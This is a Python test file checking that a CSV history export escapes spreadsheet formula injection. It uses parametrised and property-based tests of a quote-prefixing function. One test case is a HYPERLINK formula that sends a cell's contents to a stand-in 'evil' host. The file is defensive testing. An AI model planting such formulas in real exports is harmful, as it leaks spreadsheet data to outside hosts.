"""CSV history cells a spreadsheet would run as formulas are written as text (OWASP CSV
injection): a leading `'` on every cell that starts like a formula, and only on those."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas import events as ev
from schemas.events import Actor, Event, Source
from services.proof.history_formats import FORMULA_STARTS, CsvHistory, csv_row, spreadsheet_safe
from tests.unit.services.proof.test_history_formats import row

AT = datetime(2026, 1, 31, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil/?"&A2,"details")',
            '\'=HYPERLINK("https://evil/?"&A2,"details")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("website", "website"),
        ("a=1", "a=1"),
        ("2026-01-31", "2026-01-31"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_cells_that_start_like_a_formula_are_written_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


@given(st.text(max_size=50))
def test_a_safe_cell_never_starts_like_a_formula_and_gives_the_value_back(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe[:1] not in FORMULA_STARTS
    assert (safe[1:] if safe != cell else safe) == cell
    assert safe == cell or safe == "'" + cell


def _event(system: str, point: str, actor_id: str, notice: str, subject: str) -> Event:
    return Event(
        type=ev.CONSENT_GRANTED,
        event_id=UUID(int=7),
        subject_id=subject,
        occurred_at=AT,
        recorded_at=AT,
        source=Source("form", system, point),
        actor=Actor("system", actor_id),
        notice_version=notice,
        data={
            "purpose": "newsletter",
            "channel": "email",
            "expires_at": None,
            "request_event_id": None,
            "evidence": None,
        },
    )


@given(
    st.lists(st.sampled_from(sorted(FORMULA_STARTS)), min_size=4, max_size=4),
    st.text(alphabet='abcXYZ(1)!"&,', min_size=1, max_size=20),
)
def test_every_text_cell_of_a_row_is_neutralised(starts: list[str], tail: str) -> None:
    system, point, actor_id, notice = starts
    subject = "-cust-1"  # a subject id may start with "-"
    event = _event(system + tail, point + tail, actor_id + tail, notice + tail, subject)
    cells = csv_row(row(event, 1))
    assert all(cell[:1] not in FORMULA_STARTS for cell in cells)
    text = CsvHistory(subject).page([row(event, 1)]).decode("utf-8")
    (parsed,) = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed == cells
    assert parsed[8] == "'" + system + tail and parsed[12] == "'" + notice + tail
    assert parsed[2] == "'-cust-1"
